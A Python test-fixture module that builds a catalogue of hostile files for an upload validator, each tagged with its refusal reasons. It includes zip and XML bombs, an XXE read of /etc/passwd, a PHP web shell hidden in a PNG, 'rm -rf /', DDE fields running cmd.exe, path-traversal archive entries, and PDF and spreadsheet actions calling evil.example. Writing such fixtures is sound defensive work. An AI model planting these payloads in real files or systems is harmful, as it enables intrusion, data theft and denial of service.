"""Files that mean harm, which are refused: each with the reasons for which it may be."""

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from io import BytesIO

from PIL import Image
from pypdf import PdfWriter

from tests.evidence.harmless import a_pdf, photograph
from tests.evidence.making import (
    MAIN_RELATION,
    RELATIONS,
    WORD_MAIN,
    chunk,
    jpeg_saying,
    jpeg_with,
    pdf,
    picture,
    png,
    relations,
    segment,
    sheet,
    stream,
    types,
    webp_saying,
    word,
    zipped,
)

MB = 1024 * 1024
Made = Callable[[], bytes]


def moving(kind: str, frames: int = 3, size: tuple[int, int] = (40, 30)) -> bytes:
    """A picture that moves."""
    first, *rest = [Image.new("RGB", size, (n * 80 % 250, n % 250, 0)) for n in range(frames)]
    out = BytesIO()
    first.save(out, kind, save_all=True, append_images=rest, duration=10)
    return out.getvalue()


def locked() -> bytes:
    """A PDF with a password."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("bí mật", algorithm="RC4-40")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def deep(opens: str, closes: str, times: int) -> str:
    """One thing within another, very often."""
    return opens * times + closes * times


def action(name: str, more: str = "") -> bytes:
    """A PDF that does something when it is opened."""
    return pdf(root=f"/OpenAction << /S /{name} {more} >>")


def hidden_action() -> bytes:
    """A script whose name is spelt in numbers, in an object of its own."""
    return pdf("<< /S 6 0 R /#4a#53 (app.alert\\(1\\)) >>", "/JavaScript", root="/OpenAction 5 0 R")


def attached() -> bytes:
    """A PDF with another file in it."""
    file = stream(b"MZ", "/Type /EmbeddedFile")
    spec = "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
    return pdf(file, spec, root="/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>")


def bomb_stream(filters: str, content: bytes) -> bytes:
    """A PDF whose page unpacks without end."""
    return pdf(stream(content, f"/Filter {filters}"), page="/Annots [<< /AP << /N 5 0 R >> >>]")


def object_stream_bomb() -> bytes:
    """Objects in a stream that unpacks to far more than anybody wrote."""
    packed = zlib.compress(b" " * (90 * MB), 1)
    body = stream(packed, "/Type /ObjStm /N 1 /First 10 /Filter /FlateDecode")
    return pdf(body, root="/Lang 5 0 R")


def many_objects() -> bytes:
    """A PDF of very many small things."""
    return pdf(*["<< /K [1 2] >>"] * 22_000, root="/Kept [" + " ".join(f"{n} 0 R" for n in range(5, 22_005)) + "]")


def endless_pages() -> bytes:
    """Pages whose list holds itself."""
    plain = pdf()
    return plain.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def too_many_pages() -> bytes:
    """More pages than anybody looks at."""
    writer = PdfWriter()
    for _ in range(61):
        writer.add_blank_page(100, 100)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def overlapping() -> bytes:
    """An archive whose entries share their bytes: small to send, large to unpack."""
    plain = zipped(
        word(**{"word/a.xml": b"<a>" + b" " * 300_000 + b"</a>", "word/b.xml": b"<a>" + b" " * 300_000 + b"</a>"})
    )
    first, at = plain.index(b"word/a.xml") - 30, plain.rindex(b"word/b.xml")
    return plain[: at - 4] + struct.pack("<I", first) + plain[at:]


def lying_about_its_size() -> bytes:
    """An archive that says less than it unpacks to."""
    plain = bytearray(zipped(word(**{"word/a.xml": b"<a>" + b" " * 500_000 + b"</a>"})))
    at = plain.rindex(b"word/a.xml") - 46
    plain[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(plain)


def twice_named() -> bytes:
    """An archive with two parts under one name, of which each reader sees another."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in word().items():
            archive.writestr(zipfile.ZipInfo(name), content)
        archive.writestr(zipfile.ZipInfo("word/DOCUMENT.xml"), "<a/>")
    return out.getvalue()


def nested(times: int) -> bytes:
    """Archives within archives, the innermost full of nothing."""
    content = zipped({"a.xml": b"\0" * MB})
    for n in range(times):
        content = zipped({f"{n}.zip": content})
    return content


def locked_zip() -> bytes:
    """A document whose parts are said to be encrypted."""
    plain = bytearray(zipped(word()))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := plain.find(mark, start)) >= 0:
            plain[start + at] |= 1
            start += 4
    return bytes(plain)


def tar_bomb() -> bytes:
    """A tape archive, packed."""
    out = BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        info = tarfile.TarInfo("../../etc/passwd")
        info.size = 1000
        archive.addfile(info, io.BytesIO(b"x" * 1000))
    return out.getvalue()


def scans(times: int) -> bytes:
    """A JPEG that draws a large picture over and over."""
    plain = picture("JPEG", (4000, 4000), progressive=True, quality=30)
    at = plain.rindex(b"\xff\xda")
    return plain[:at] + plain[at:-2] * times + b"\xff\xd9"


def billion_laughs(name: str = "word/document.xml") -> bytes:
    """A text that multiplies itself."""
    each = "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};&a{n - 1};&a{n - 1};">' for n in range(1, 20))
    return zipped(word(**{name: f'<!DOCTYPE a [<!ENTITY a0 "ha">{each}]><a>&a19;</a>'}))


def external(kind: str, target: str = "https://evil.example/x", mode: str = ' TargetMode="External"') -> bytes:
    """A document that leads somewhere else."""
    told = f'Type="{RELATIONS}/{kind}" Target="{target}"{mode}'
    return zipped(word(**{"word/_rels/document.xml.rels": relations(told)}))


def field(code: str) -> str:
    """A field of a text, its code cut into two pieces."""
    half = len(code) // 2
    return "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))


def zip_tail() -> bytes:
    """The end of an archive."""
    return zipped({"a.exe": b"MZ"})


EXE = b"MZ\x90\x00" + b"\0" * 60 + b"This program cannot be run in DOS mode."
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ICC = b"ICC_PROFILE\0\x01\x01"

BAD_PICTURE = {"broken", "too-many-pixels", "too-heavy"}
# Name, how it is made, and for which reasons it may be refused.
HOSTILE: dict[str, tuple[Made, set[str]]] = {
    # Pictures that are far larger than they look
    "png of ten thousand million pixels": (lambda: png(100_000, 100_000), {"too-many-pixels"}),
    "png of the greatest size": (lambda: png(2**31 - 1, 2**31 - 1), BAD_PICTURE),
    "png of no width": (lambda: png(0, 10), BAD_PICTURE),
    "png of twenty five million pixels": (lambda: picture("PNG", (5000, 5000)), {"too-many-pixels"}),
    "jpeg of 65,500 by 65,500": (lambda: jpeg_saying(65_500, 65_500), {"too-many-pixels"}),
    "jpeg one pixel high": (lambda: jpeg_saying(65_500, 1), BAD_PICTURE),
    "webp of 16,000 by 16,000": (lambda: webp_saying(16_000, 16_000), BAD_PICTURE),
    "gif of 65,535 by 65,535": (lambda: b"GIF89a\xff\xff\xff\xff\x00\x00\x00;", {"unknown"}),
    "jpeg drawn five hundred times": (lambda: scans(500), {"too-heavy", "broken", "too-large"}),
    # Pictures that move
    "animated png": (lambda: moving("PNG"), {"moving"}),
    "animated webp": (lambda: moving("WEBP"), {"moving"}),
    "animated gif of two hundred frames": (lambda: moving("GIF", 200), {"unknown"}),
    # Pictures that are broken
    "truncated jpeg": (lambda: photograph()[:4000], {"broken"}),
    "truncated png": (lambda: picture("PNG", (300, 300))[:-60], {"broken"}),
    "truncated webp": (lambda: picture("WEBP", (300, 300))[:200], {"broken"}),
    "nothing but the head of a jpeg": (lambda: b"\xff\xd8\xff\xe0", {"broken"}),
    "nothing but the head of a png": (lambda: b"\x89PNG\r\n\x1a\n", {"broken"}),
    "jpeg of noise": (lambda: b"\xff\xd8\xff" + random.Random(1).randbytes(50_000), {"broken"}),
    "png with wrong sums": (lambda: picture("PNG").replace(b"IHDR\x00", b"IHDR\x01", 1), {"broken", "too-many-pixels"}),
    # What is noted beside the pixels
    "exif of a megabyte": (lambda: png(20, 20, chunk(b"eXIf", b"MM\0*" + b"\xff" * MB), rows=b"\0" * 1220), {"broken"}),
    "texts that unpack to sixty megabytes": (
        lambda: png(20, 20, *[chunk(b"zTXt", b"k\0\0" + zlib.compress(b"a" * (60 * MB), 1))], rows=b"\0" * 1220),
        {"broken", "too-heavy"},
    ),
    "profile of colours that unpacks to sixty megabytes": (
        lambda: png(20, 20, chunk(b"iCCP", b"k\0\0" + zlib.compress(b"a" * (60 * MB), 1)), rows=b"\0" * 1220),
        {"broken", "too-heavy"},
    ),
    "profile of colours of a megabyte": (
        lambda: jpeg_with(*[segment(0xE2, b"ICC_PROFILE\0" + bytes((n, 17)) + b"a" * 65_000) for n in range(1, 18)]),
        {"broken"},
    ),
    # Two kinds in one
    "jpeg that is a zip as well": (lambda: picture() + zip_tail(), {"two-kinds"}),
    "png that is a zip as well": (lambda: picture("PNG") + zip_tail(), {"two-kinds"}),
    "pdf that is a zip as well": (lambda: a_pdf() + zip_tail(), {"two-kinds"}),
    "jpeg that is a pdf as well": (lambda: jpeg_with(segment(0xFE, a_pdf())), {"two-kinds"}),
    "pdf behind a jpeg's head": (lambda: b"\xff\xd8\xff\xe0\x00\x10" + a_pdf(), {"two-kinds"}),
    "html in a gif": (lambda: b"GIF89a" + HTML, {"unknown"}),
    "html in a jpeg's comment": (lambda: jpeg_with(segment(0xFE, HTML)), {"two-kinds"}),
    "php in a png": (lambda: png(20, 20, chunk(b"tEXt", b"c\0<?php system($_GET[0]);"), rows=b"\0" * 1220), {"two-kinds"}),
    "script in a pdf's comment": (lambda: a_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n%<script>x</script>\n"), {"two-kinds"}),
    "a program behind a jpeg": (lambda: picture() + EXE, {"two-kinds"}),
    # Not what anybody asked for
    "empty": (lambda: b"", {"empty"}),
    "html": (lambda: HTML, {"unknown"}),
    "svg with a script": (lambda: SVG, {"unknown"}),
    "svg that fetches": (lambda: b'<svg><image href="file:///etc/passwd"/></svg>', {"unknown"}),
    "program for Windows": (lambda: EXE, {"unknown"}),
    "program for Linux": (lambda: b"\x7fELF" + b"\0" * 60, {"unknown"}),
    "script for a shell": (lambda: b"#!/bin/sh\nrm -rf /\n", {"unknown"}),
    "shortcut": (lambda: b"L\0\0\0\x01\x14\x02\0", {"unknown"}),
    "old office document": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, {"unknown"}),
    "rich text": (lambda: b"{\\rtf1\\object}", {"unknown"}),
    "postscript": (lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", {"unknown"}),
    "tiff": (lambda: picture("TIFF"), {"unknown"}),
    "bmp": (lambda: picture("BMP"), {"unknown"}),
    "gzip of zeros": (lambda: gzip.compress(b"\0" * (20 * MB), 1), {"unknown"}),
    "tape archive that leads outside": (tar_bomb, {"unknown"}),
    "pdf after a thousand blanks": (lambda: b" " * 1000 + a_pdf(), {"unknown"}),
    "six megabytes": (lambda: b"%PDF-" + b"x" * (6 * MB), {"too-large"}),
    # PDFs that act
    "pdf with a script": (lambda: action("JavaScript", "/JS (app.alert\\(1\\))"), {"active"}),
    "pdf with a script spelt in numbers": (hidden_action, {"active"}),
    "pdf that starts a program": (lambda: action("Launch", "/F (cmd.exe)"), {"active"}),
    "pdf that sends a form": (lambda: action("SubmitForm", "/F (https://evil.example)"), {"active"}),
    "pdf that fetches figures": (lambda: action("ImportData", "/F (x.fdf)"), {"active"}),
    "pdf that opens another file": (lambda: action("GoToR", "/F (\\\\\\\\evil\\\\share)"), {"active"}),
    "pdf with a script at a click": (
        lambda: pdf(page="/Annots [<< /Subtype /Link /A << /S /JavaScript /JS (x) >> >>]"),
        {"active"},
    ),
    "pdf that acts when a page opens": (lambda: pdf(page="/AA << /O << /S /Named /N /Print >> >>"), {"active"}),
    "pdf with a script among its names": (
        lambda: pdf(root="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>"),
        {"active"},
    ),
    "pdf with a form in XML": (lambda: pdf(stream(b"<xdp/>"), root="/AcroForm << /XFA 5 0 R >>"), {"active"}),
    "pdf with a film": (lambda: pdf(page="/Annots [<< /Subtype /RichMedia >>]"), {"active"}),
    "pdf with another file": (attached, {"attached"}),
    "pdf with a file at a page": (
        lambda: pdf(page="/Annots [<< /Subtype /FileAttachment /FS << /Type /Filespec >> >>]"),
        {"attached"},
    ),
    "pdf with a password": (locked, {"locked"}),
    # PDFs that wear down
    "pdf whose pages hold themselves": (endless_pages, {"broken", "too-heavy"}),
    "pdf in ten thousand brackets": (lambda: pdf(deep("[", "]", 10_000), root="/Kept 5 0 R"), {"too-heavy", "broken"}),
    "pdf of twenty two thousand things": (many_objects, {"too-heavy"}),
    "pdf of sixty one pages": (too_many_pages, {"too-many-pages"}),
    "pdf stream that unpacks to ninety megabytes": (
        lambda: bomb_stream("/FlateDecode", zlib.compress(b"\0" * (90 * MB), 1)),
        {"unpacks-too-large"},
    ),
    "pdf stream packed twice": (
        lambda: bomb_stream("[/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"\0" * MB))),
        {"unpacks-too-large", "broken"},
    ),
    "pdf stream spelt in letters and packed": (
        lambda: bomb_stream("[/ASCIIHexDecode /FlateDecode]", zlib.compress(b"\0" * (70 * MB), 1).hex().encode() + b">"),
        {"unpacks-too-large", "broken", "too-heavy"},
    ),
    "pdf with packed objects of ninety megabytes": (object_stream_bomb, {"unpacks-too-large", "broken"}),
    "pdf with a picture of ten thousand million pixels": (
        lambda: pdf(
            stream(b"x", "/Type /XObject /Subtype /Image /Width 100000 /Height 100000"), page="/Annots [<< /N 5 0 R >>]"
        ),
        {"too-many-pixels"},
    ),
    "pdf of nothing": (lambda: b"%PDF-1.7\n", {"broken"}),
    "pdf of noise": (lambda: b"%PDF-1.7\n" + random.Random(2).randbytes(60_000), {"broken", "too-heavy", "two-kinds"}),
    "pdf without a page": (lambda: pdf().replace(b"/Type /Page ", b"/Type /Pagx ").replace(b"/Kids [3 0 R]", b"/Kids []"), {"broken"}),
    # Archives
    "zip of a program": (zip_tail, {"unknown"}),
    "jar": (lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), {"unknown"}),
    "ten archives in one another": (lambda: nested(10), {"unknown"}),
    "document with an archive": (lambda: zipped(word(**{"word/a.zip": nested(2)})), {"nested"}),
    "document with an archive called a picture": (lambda: zipped(word(**{"word/media/a.png": nested(2)})), {"nested"}),
    "document with an archive called a text": (lambda: zipped(word(**{"word/a.xml": nested(2)})), {"nested"}),
    "flat bomb": (lambda: zipped(word(**{"word/a.xml": b"\0" * (41 * MB)})), {"unpacks-too-large"}),
    "bomb of many parts": (
        lambda: zipped(word(**{f"word/{n}.xml": b" " * 200_000 for n in range(300)})),
        {"unpacks-too-large"},
    ),
    "a thousand parts": (lambda: zipped(word(**{f"word/{n}.xml": "<a/>" for n in range(1000)})), {"unpacks-too-large"}),
    "parts that share their bytes": (overlapping, {"unpacks-too-large", "broken"}),
    "parts that say less than they hold": (lying_about_its_size, {"unpacks-too-large", "broken"}),
    "two parts of one name": (twice_named, {"two-kinds"}),
    "document that leads out of its folder": (lambda: zipped(word(**{"word/../../../etc/cron.d/x.xml": "<a/>"})), {"two-kinds"}),
    "document at the root of the disk": (lambda: zipped(word(**{"/etc/x.xml": "<a/>"})), {"two-kinds"}),
    "document with a path of Windows": (lambda: zipped(word(**{"word\\..\\x.xml": "<a/>"})), {"two-kinds"}),
    "document with a page of its own": (lambda: zipped(word(**{"index.html": HTML})), {"two-kinds"}),
    "document with a password": (locked_zip, {"broken"}),
    "half a document": (lambda: zipped(word())[:300], {"broken"}),
    "document with a remark": (lambda: zipped(word())[:-2] + b"\x04\x00<ht>", {"two-kinds"}),
    # Office documents that act
    "document with macros": (lambda: zipped(word(**{"word/vbaProject.bin": b"\xd0\xcf"})), {"active"}),
    "document that is one with macros": (
        lambda: zipped(word(main="application/vnd.ms-word.document.macroEnabled.main+xml")),
        {"active", "unknown"},
    ),
    "document with a control": (lambda: zipped(word(**{"word/activeX/activeX1.xml": "<a/>"})), {"active"}),
    "document with another file": (lambda: zipped(word(**{"word/embeddings/oleObject1.bin": b"MZ"})), {"attached"}),
    "document with a program": (lambda: zipped(word(**{"word/a.exe": EXE})), {"unknown-part"}),
    "document with a drawing for Windows": (lambda: zipped(word(**{"word/media/a.emf": b"\1\0\0\0"})), {"unknown-part"}),
    "document with a script called a picture": (lambda: zipped(word(**{"word/media/a.png": SVG})), {"two-kinds"}),
    "document with too large a picture": (
        lambda: zipped(word(**{"word/media/a.png": png(60_000, 60_000)})),
        {"too-many-pixels"},
    ),
    "document that multiplies itself": (billion_laughs, {"unpacks-too-large"}),
    "list of parts that multiplies itself": (lambda: billion_laughs("[Content_Types].xml"), {"unpacks-too-large"}),
    "document that reads a file": (
        lambda: zipped(word(**{"word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
        {"unpacks-too-large"},
    ),
    "document of a hundred thousand brackets": (
        lambda: zipped(word(**{"word/a.xml": deep("<a>", "</a>", 100_000)}), zipfile.ZIP_STORED),
        {"unpacks-too-large"},
    ),
    "document with a template from elsewhere": (lambda: external("attachedTemplate"), {"outside"}),
    "document with a picture from elsewhere": (lambda: external("image"), {"outside"}),
    "document with a frame": (lambda: external("frame", mode=""), {"attached"}),
    "document whose link runs": (lambda: external("hyperlink", "javascript:alert(1)"), {"outside"}),
    "document whose link shares a disk": (lambda: external("hyperlink", "file://evil/share"), {"outside"}),
    "document whose field runs": (lambda: zipped(word(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'))), {"active"}),
    "document whose field fetches": (lambda: zipped(word(field('INCLUDEPICTURE "https://evil.example/x"'))), {"active"}),
    "sheet that runs a program": (lambda: zipped(sheet("cmd|' /C calc'!A0 DDE (x)")), {"active"}),
    "sheet that fetches": (lambda: zipped(sheet('WEBSERVICE("https://evil.example")')), {"active"}),
    "sheet with links outside": (lambda: zipped(sheet(**{"xl/externalLinks/externalLink1.xml": "<a/>"})), {"active"}),
    "sheet with old macros": (lambda: zipped(sheet(**{"xl/macrosheets/sheet1.xml": "<a/>"})), {"active"}),
    "sheet whose printer is a program": (
        lambda: zipped(sheet(**{"xl/printerSettings/p.bin": EXE})),
        {"nested"},
    ),
    "two main parts": (
        lambda: zipped(
            word()
            | {"[Content_Types].xml": types(more=f'<Override PartName="/b.xml" ContentType="{WORD_MAIN}"/>')}
            | {"_rels/.rels": relations(MAIN_RELATION)}
        ),
        {"unknown"},
    ),
}  # fmt: skip
